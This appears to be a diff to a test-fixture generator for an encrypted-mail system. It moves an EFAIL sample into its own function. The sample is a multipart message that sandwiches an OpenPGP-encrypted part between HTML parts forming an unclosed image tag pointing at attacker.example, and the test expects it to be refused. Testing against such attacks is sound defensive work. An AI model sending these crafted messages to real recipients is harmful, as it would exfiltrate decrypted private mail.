@@ -145,16 +145,7 @@ def _sealed(writer: Writer, room: bytes, at: datetime) -> Iterator[Hostile]:
     inside = letters.encrypted(raw, writer.secret, room)
     again = letters.encrypted(inside.replace(b"\r\n", b"\n"), writer.secret, room)
     yield Hostile("encrypted-twice", again, "refused", "nested-encryption")
-    armoured = bytes(pysequoia.encrypt(b"a secret of somebody's", [cert]))
-    # EFAIL: the encrypted part between two that would send what it holds elsewhere.
-    parts = (
-        b'--e\nContent-Type: text/html\n\n<img src="http://attacker.example/\n'
-        b"--e\nContent-Type: text/plain\n\n" + armoured + b'\n--e\nContent-Type: text/html\n\n">\n--e--\n'
-    )
-    head = plain(writer, at, name="efail").split(b"Content-Type")[0]
-    yield Hostile(
-        "efail", head + b"Content-Type: multipart/mixed; boundary=e\n\n" + parts, "refused", "mixed-encryption"
-    )
+    yield _efail(writer, cert, at)
     whole = letters.encrypted(plain(writer, at, name="damaged"), writer.secret, room)
     # Without the armour's own sum, which would tell of it before the encryption does.
     lines = [line for line in whole.split(b"\r\n") if not (line.startswith(b"=") and len(line) == 5)]
@@ -169,3 +160,16 @@ def _sealed(writer: Writer, room: bytes, at: datetime) -> Iterator[Hostile]:
     yield Hostile("for-another-key", elsewhere, "refused", "no-message")
     anonymous = letters.encrypted(plain(writer, at, name="anonymous"), None, room)
     yield Hostile("encrypted-unsigned", anonymous, "quarantined", "unsigned")
+
+
+def _efail(writer: Writer, cert: pysequoia.Cert, at: datetime) -> Hostile:
+    armoured = bytes(pysequoia.encrypt(b"a secret of somebody's", [cert]))
+    # EFAIL: the encrypted part between two that would send what it holds elsewhere.
+    parts = (
+        b'--e\nContent-Type: text/html\n\n<img src="http://attacker.example/\n'
+        b"--e\nContent-Type: text/plain\n\n" + armoured + b'\n--e\nContent-Type: text/html\n\n">\n--e--\n'
+    )
+    head = plain(writer, at, name="efail").split(b"Content-Type")[0]
+    return Hostile(
+        "efail", head + b"Content-Type: multipart/mixed; boundary=e\n\n" + parts, "refused", "mixed-encryption"
+    )
